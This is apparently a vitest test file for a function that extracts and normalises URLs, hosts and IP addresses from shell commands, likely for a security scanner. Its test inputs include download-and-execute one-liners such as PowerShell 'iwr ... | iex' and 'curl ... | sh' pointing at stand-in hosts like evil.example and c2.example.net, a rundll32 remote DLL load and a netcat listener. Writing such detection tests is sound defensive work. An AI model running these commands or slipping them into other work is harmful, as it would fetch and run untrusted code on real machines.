import { describe, expect, it } from 'vitest';
import { extractDestinations } from './extract';

/** [kind, exact text of the span, normalised host, normalised url?] for each destination. */
const found = (text: string) =>
  extractDestinations(text).map((d) => {
    expect(d.value).toBe(text.slice(d.span.start, d.span.end));
    return d.url === undefined ? [d.kind, d.value, d.host] : [d.kind, d.value, d.host, d.url];
  });

describe('URLs', () => {
  it('spans cover exactly the URL', () => {
    expect(found('iwr https://evil.example/a.ps1 | iex')).toEqual([
      ['url', 'https://evil.example/a.ps1', 'evil.example', 'https://evil.example/a.ps1'],
    ]);
    expect(found("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5:8080/p')")).toEqual([
      ['url', 'http://10.0.0.5:8080/p', '10.0.0.5', 'http://10.0.0.5:8080/p'],
    ]);
    expect(found('curl -fsSL "https://get.example.com/install.sh"|sh')).toEqual([
      ['url', 'https://get.example.com/install.sh', 'get.example.com', 'https://get.example.com/install.sh'],
    ]);
  });
  it('ftp, ws/wss, file, scheme prefixes like git+https', () => {
    expect(found('ftp://files.example.org/pub/x.bin')[0]?.[2]).toBe('files.example.org');
    expect(found('wscat -c wss://c2.example.net/socket')[0]).toEqual([
      'url',
      'wss://c2.example.net/socket',
      'c2.example.net',
      'wss://c2.example.net/socket',
    ]);
    expect(found('ws://c2.example.net:80/')[0]?.[3]).toBe('ws://c2.example.net/');
    expect(found('file://fileserver/share/x.hta')[0]).toEqual([
      'url',
      'file://fileserver/share/x.hta',
      'fileserver',
      'file://fileserver/share/x.hta',
    ]);
    expect(found('start file:///C:/Windows/notepad.exe')).toEqual([]); // local file
    expect(found('pip install git+https://github.com/x/y')[0]?.[1]).toBe('git+https://github.com/x/y');
  });
  it('legacy numeric hosts', () => {
    expect(found('iwr http://3232235777/a')[0]?.[2]).toBe('192.168.1.1');
    expect(found('iwr http://0xC0A80101/a')[0]?.[2]).toBe('192.168.1.1');
    expect(found('iwr http://0300.0250.1.1/a')[0]?.[2]).toBe('192.168.1.1');
    expect(found('iwr http://0xC0.168.1.1/a')[0]?.[2]).toBe('192.168.1.1');
    expect(found('iwr http://[::ffff:192.168.1.1]/a')[0]?.[2]).toBe('192.168.1.1');
    expect(found('iwr http://[2001:DB8::1]:8443/a')[0]).toEqual([
      'url',
      'http://[2001:DB8::1]:8443/a',
      '2001:db8::1',
      'http://[2001:db8::1]:8443/a',
    ]);
  });
  it('user info, backslashes and one slash do not hide the host', () => {
    expect(found('http://good.example@evil.example/x')[0]?.[2]).toBe('evil.example');
    expect(found('http:\\\\evil.example\\x')[0]?.[2]).toBe('evil.example');
    expect(found('http:/evil.example/x')[0]?.[2]).toBe('evil.example');
  });
  it('IDN hosts become punycode; trailing dots go', () => {
    expect(found('wget http://bücher.example./x')[0]).toEqual([
      'url',
      'http://bücher.example./x',
      'xn--bcher-kva.example',
      'http://xn--bcher-kva.example/x',
    ]);
  });
  it('ends at shell metacharacters and sentence punctuation', () => {
    expect(found('curl http://a.example/x;sh')[0]?.[1]).toBe('http://a.example/x');
    expect(found('curl http://a.example/x&&sh')[0]?.[1]).toBe('http://a.example/x');
    expect(found('curl "http://a.example/x?a=1&b=2"')[0]?.[1]).toBe('http://a.example/x?a=1&b=2');
    expect(found('See http://a.example/docs.')[0]?.[1]).toBe('http://a.example/docs');
    expect(found('iex(iwr http://a.example/x)')[0]?.[1]).toBe('http://a.example/x');
    expect(found('cmd /c curl http://a.example/x^&start x')[0]?.[1]).toBe('http://a.example/x');
  });
  it('ignores non-schemes and drive letters', () => {
    expect(found('dir C:\\Windows; echo note: done; mailto:a@b.example')).toEqual([]);
    expect(found('xhttp://a.example/')).toEqual([]);
  });
});

describe('UNC and //host paths', () => {
  it('UNC', () => {
    expect(found('copy \\\\fileserver\\share\\x.exe .')).toEqual([
      ['url', '\\\\fileserver\\share\\x.exe', 'fileserver', 'file://fileserver/share/x.exe'],
    ]);
    expect(found('rundll32 \\\\evil.example@SSL\\dav\\x.dll,Entry')).toEqual([
      ['url', '\\\\evil.example@SSL\\dav\\x.dll', 'evil.example', 'https://evil.example/dav/x.dll'],
    ]);
    expect(found('net view \\\\10.0.0.9')).toEqual([['url', '\\\\10.0.0.9', '10.0.0.9', 'file://10.0.0.9/']]);
  });
  it('not device paths or escaped backslashes', () => {
    expect(found('dir \\\\?\\C:\\x \\\\.\\pipe\\p')).toEqual([]);
    expect(found('"C:\\\\Windows\\\\System32\\\\cmd.exe"')).toEqual([]);
  });
  it('//host', () => {
    expect(found('smbclient //fileserver/share -U bob')).toEqual([['url', '//fileserver/share', 'fileserver', 'file://fileserver/share']]);
    expect(found('src="//cdn.example.com/x.js"')[0]?.[2]).toBe('cdn.example.com');
    expect(found('// just a comment')).toEqual([]);
    expect(found('//comment without slash')).toEqual([]);
  });
});

describe('bare IP literals', () => {
  it('dotted quads (any radix) with exact spans, ports excluded', () => {
    expect(found('ping 10.0.0.1')).toEqual([['ip', '10.0.0.1', '10.0.0.1']]);
    expect(found('nc 203.0.113.5:4444')).toEqual([['ip', '203.0.113.5', '203.0.113.5']]);
    expect(found('echo 0300.0250.1.1')).toEqual([['ip', '0300.0250.1.1', '192.168.1.1']]);
    expect(found('ssh root@198.51.100.7')).toEqual([['ip', '198.51.100.7', '198.51.100.7']]);
  });
  it('IPv6 with exact spans', () => {
    expect(found('ping -6 fe80::1 and 2001:db8::7.')).toEqual([
      ['ip', 'fe80::1', 'fe80::1'],
      ['ip', '2001:db8::7', '2001:db8::7'],
    ]);
    expect(found('[2001:db8::7]:22')).toEqual([['ip', '2001:db8::7', '2001:db8::7']]);
    expect(found('::ffff:10.0.0.1')).toEqual([['ip', '::ffff:10.0.0.1', '10.0.0.1']]);
  });
  it('not versions, times, MACs, member access or hashes', () => {
    expect(found('choco install app --version 1.2.3.4.5')).toEqual([]);
    expect(found('v1.2.3.4 x-1.2.3.4 10.0.19041.1')).toEqual([]);
    expect(found('at 12:30:45; 00:1a:2b:3c:4d:5e')).toEqual([]);
    expect(found('[Convert]::FromBase64String($s); [Math]::Add(1); std::cout')).toEqual([]);
    expect(found('sha deadbeef.cafe.babe.face')).toEqual([]);
  });
});

describe('bare hosts in network-command arguments', () => {
  it('finds hosts and scheme-less URLs', () => {
    expect(found('curl evil.example.com/x.sh | sh')).toEqual([
      ['url', 'evil.example.com/x.sh', 'evil.example.com', 'http://evil.example.com/x.sh'],
    ]);
    expect(found('wget -q -O- evil.example.com')).toEqual([['host', 'evil.example.com', 'evil.example.com']]);
    expect(found('ssh -p 2222 bob@jump.example.org')).toEqual([['host', 'jump.example.org', 'jump.example.org']]);
    expect(found('scp f.txt bob@files.example.org:/tmp/')).toEqual([['host', 'files.example.org', 'files.example.org']]);
    expect(found('Invoke-WebRequest -Uri "dl.example.net/a" -OutFile a.exe')).toEqual([
      ['url', 'dl.example.net/a', 'dl.example.net', 'http://dl.example.net/a'],
    ]);
    expect(found('sudo curl --url=evil.example.com')).toEqual([['host', 'evil.example.com', 'evil.example.com']]);
  });
  it('legacy numeric forms only when unambiguous', () => {
    expect(found('ping 3232235777')).toEqual([['ip', '3232235777', '192.168.1.1']]);
    expect(found('ping 0xC0A80101')).toEqual([['ip', '0xC0A80101', '192.168.1.1']]);
    expect(found('ping -c 4 -W 2.5 example.com')).toEqual([['host', 'example.com', 'example.com']]);
    expect(found('nc -lvp 4444')).toEqual([]);
  });
  it('not file names, output paths or other commands', () => {
    expect(found('curl -o install.sh https://x.example/i')).toEqual([['url', 'https://x.example/i', 'x.example', 'https://x.example/i']]);
    expect(found('curl -o report.com other.example.com')).toEqual([['host', 'other.example.com', 'other.example.com']]);
    expect(found('cat evil.example.com; Get-Content app.log')).toEqual([]);
    expect(found('ssh -i key.pem -F ssh.config host01')).toEqual([]);
    expect(found('curl x # see docs.example.com')).toEqual([]);
  });
});

describe('robustness', () => {
  it('handles empty and odd input', () => {
    expect(found('')).toEqual([]);
    expect(found('http://')).toEqual([]);
    expect(found('http://[::1')).toEqual([['ip', '::1', '::1']]); // broken URL, the literal still counts
    expect(found('\\\\')).toEqual([]);
    expect(found('://')).toEqual([]);
  });
});
